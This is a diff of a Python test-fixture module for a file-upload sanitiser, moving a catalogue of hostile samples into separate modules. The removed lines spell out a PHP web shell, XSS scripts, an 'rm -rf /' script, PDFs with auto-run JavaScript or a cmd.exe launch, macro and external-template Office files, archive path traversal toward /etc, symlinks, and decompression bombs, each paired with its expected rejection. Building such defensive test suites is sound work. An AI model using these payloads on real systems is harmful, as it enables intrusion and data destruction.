@@ -4,49 +4,11 @@
 """
 
 import struct
-import tarfile
 import zlib
-from dataclasses import dataclass
 
-from . import archives, pictures
+from . import archives, hostile_documents, pictures
 from .pictures import chunk, raw_png, with_chunk, with_riff_chunk, with_segment
-
-PHP = b"<?php system($_GET['c']); ?>"
-HTML = b"<html><script>alert(document.domain)</script></html>"
-SCRIPT = b"<script>alert(1)</script>"
-EXE = b"MZ\x90\0\x03\0\0\0" + bytes(120) + b"PE\0\0" + bytes(200)
-SVG = (
-    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">'
-    b"%s</svg>"
-)
-RECT = b'<rect width="5" height="5" fill="red"/>'
-PDF = (
-    b"%%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R%s>>\nendobj\n"
-    b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n%s\n"
-    b"trailer\n<</Root 1 0 R>>\nstartxref\n0\n%%%%EOF\n"
-)
-GPS = (b"48,12.5N", pictures.MODEL.encode())
-
-
-@dataclass(frozen=True)
-class Hostile:
-    what: str
-    category: str
-    filename: str
-    data: bytes
-    fate: str
-    forbidden: tuple = ()
-
-    def __str__(self):
-        return f"{self.category}: {self.filename}"
-
-
-def image(category, filename, data, fate="cleaned", *forbidden):
-    return Hostile("image", category, filename, data, fate, forbidden)
-
-
-def document(category, filename, data, fate, *forbidden):
-    return Hostile("document", category, filename, data, fate, forbidden)
+from .threats import EXE, GPS, HTML, PHP, RECT, SCRIPT, SVG, document, image
 
 
 def everything():
@@ -58,11 +20,11 @@ def everything():
         *damaged(),
         *vectors(),
         *names(),
-        *pages_as_documents(),
-        *portable_documents(),
-        *zips(),
-        *offices(),
-        *tapes(),
+        *hostile_documents.pages_as_documents(),
+        *hostile_documents.portable_documents(),
+        *hostile_documents.zips(),
+        *hostile_documents.offices(),
+        *hostile_documents.tapes(),
     ]
 
 
@@ -362,143 +324,6 @@ def names():
         yield image("name", name, pictures.plain_jpeg(), "cleaned")
     yield document("name", "report.pdf.exe", b"MZ", "extension")
     yield document("name", "no-extension", b"text", "extension")
-
-
-def pages_as_documents():
-    """What a browser or a server would run."""
-    yield document("page", "page.html", HTML, "extension")
-    yield document("page", "shell.php", PHP, "extension")
-    yield document("page", "page.txt", b"  \n" + HTML, "executable")
-    yield document("page", "shell.csv", PHP, "executable")
-    yield document("page", "script.txt", b"#!/bin/sh\nrm -rf /", "executable")
-    yield document(
-        "page", "utf16.txt", "\ufeff<script>alert(1)</script>".encode("utf-16-le"), "executable"
-    )
-    yield document("page", "binary.txt", b"text\0\1\2\3", "not_text")
-    yield document("page", "program.csv", EXE, "executable")
-    yield document("page", "page.ics", b"hello", "wrong_type")
-
-
-def portable_documents():
-    js = b"3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj"
-    hidden = zlib.compress(b"3 0 <</S/JavaScript/JS(app.alert(1))>>")
-    listed = (
-        b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj"
-        % (len(hidden), hidden)
-    )
-    good = PDF % (b"", b"")
-    yield document("pdf", "script.pdf", PDF % (b"/OpenAction 3 0 R", js), "pdf_script")
-    yield document(
-        "pdf",
-        "spelled.pdf",
-        PDF % (b"/OpenAction 3 0 R", js.replace(b"/JavaScript", b"/J#61vaScr#69pt")),
-        "pdf_script",
-    )
-    yield document(
-        "pdf", "launch.pdf", PDF % (b"/OpenAction<</S/Launch/F(cmd.exe)>>", b""), "pdf_script"
-    )
-    yield document("pdf", "hidden.pdf", PDF % (b"/OpenAction 3 0 R", listed), "pdf_script")
-    yield document("pdf", "page.pdf", HTML, "wrong_type")
-    yield document("pdf", "html-behind.pdf", good + HTML * 5, "damaged")
-    yield document("pdf", "archive.pdf", good + archives.zipped({"a.txt": "a"}), "damaged")
-    packed = archives.zipped({"a.txt": "a"})
-    packed = packed[:-2] + struct.pack("<H", 6) + b"%%EOF\n"
-    yield document("pdf", "archive-within.pdf", good[:-6] + packed, "polyglot")
-    yield document("pdf", "half.pdf", good[:60], "damaged")
-
-
-def zips():
-    zipped = archives.zipped
-    yield document("archive", "zeros.zip", zipped({"zeros.txt": bytes(11_000_000)}), "archive_bomb")
-    yield document("archive", "overlapping.zip", archives.overlapping(), "archive_bomb")
-    yield document("archive", "lying.zip", archives.lying_about_size(), "damaged")
-    yield document("archive", "nested.zip", archives.nested(6), "archive_nested")
-    yield document(
-        "archive",
-        "nested-zeros.zip",
-        zipped({f"{n}.zip": zipped({"z": bytes(3_000_000)}) for n in range(5)}),
-        "archive_bomb",
-    )
-    yield document(
-        "archive", "many.zip", zipped({f"{n}.txt": "" for n in range(6000)}), "archive_entries"
-    )
-    yield document("archive", "traversal.zip", zipped({"../../etc/cron.d/x": "x"}), "archive_path")
-    yield document("archive", "backslash.zip", zipped({"..\\..\\x.txt": "x"}), "archive_path")
-    yield document("archive", "absolute.zip", zipped({"/etc/passwd": "x"}), "archive_path")
-    yield document("archive", "drive.zip", zipped({"C:/Windows/x.txt": "x"}), "archive_path")
-    yield document(
-        "archive",
-        "link.zip",
-        zipped({"x": "/etc/passwd"}, external_attr=0o120777 << 16),
-        "archive_link",
-    )
-    yield document(
-        "archive", "secret.zip", archives.with_flag(zipped({"a.txt": "a"}), 1), "encrypted"
-    )
-    yield document("archive", "program.zip", zipped({"invoice.pdf.exe": EXE}), "archive_program")
-    yield document(
-        "archive", "renamed-program.zip", zipped({"invoice.dat": EXE}), "archive_program"
-    )
-    yield document("archive", "disguised.zip", zipped({"photo.jpg": HTML}), "archive_wrong_type")
-    yield document("archive", "behind.zip", zipped({"a.txt": "a"}) + HTML, "damaged")
-    yield document("archive", "in-front.zip", HTML + zipped({"a.txt": "a"}), "wrong_type")
-    yield document("archive", "half.zip", zipped({"a.txt": "a" * 999})[:-30], "damaged")
-
-
-def offices():
-    docx, odt = archives.docx, archives.odt
-    yield document("office", "macros.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macros")
-    yield document("office", "basic.odt", odt(**{"Basic/script-lc.xml": "<a/>"}), "macros")
-    template = '<Relationship Type="http://schemas/attachedTemplate" Target="//evil/x.dotm" TargetMode="External"/>'
-    yield document(
-        "office", "template.docx", docx(**{"word/_rels/settings.xml.rels": template}), "macros"
-    )
-    yield document(
-        "office",
-        "entities.docx",
-        docx(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
-        "xml_entities",
-    )
-    yield document("office", "archive.docx", archives.zipped({"a.txt": "a"}), "wrong_type")
-    yield document("office", "other.odt", odt("application/zip"), "wrong_type")
-    yield document(
-        "office", "zeros.docx", docx(**{"word/media/a": bytes(11_000_000)}), "archive_bomb"
-    )
-    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
-    yield document(
-        "office", "macros.doc", ole + "_VBA_PROJECT".encode("utf-16-le") + bytes(50), "macros"
-    )
-    yield document("office", "object.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "macros")
-
-
-def tapes():
-    tarred, regular = archives.tarred, archives.regular
-    yield document("tar", "traversal.tar", tarred(regular("../x.txt", b"x")), "archive_path")
-    yield document(
-        "tar", "link.tar", tarred(("x", b"", tarfile.SYMTYPE, "/etc/passwd")), "archive_link"
-    )
-    yield document(
-        "tar",
-        "hard-link.tar",
-        tarred(regular("a", b"a"), ("x", b"", tarfile.LNKTYPE, "a")),
-        "archive_link",
-    )
-    yield document("tar", "device.tar", tarred(("x", b"", tarfile.CHRTYPE, "")), "archive_device")
-    yield document("tar", "program.tar", tarred(regular("a.pdf", EXE)), "archive_program")
-    yield document("tar", "zeros.gz", archives.gzipped(bytes(11_000_000)), "archive_bomb")
-    yield document(
-        "tar",
-        "zeros.tgz",
-        archives.gzipped(tarred(regular("z.txt", bytes(11_000_000)))),
-        "archive_bomb",
-    )
-    yield document(
-        "tar",
-        "many.tgz",
-        archives.gzipped(tarred(*(regular(f"{n}", b"") for n in range(6000)))),
-        "archive_entries",
-    )
-    yield document("tar", "half.tar", tarred(regular("a.txt", b"a" * 3000))[:1024], "damaged")
 
 
 def php_in_table(data):
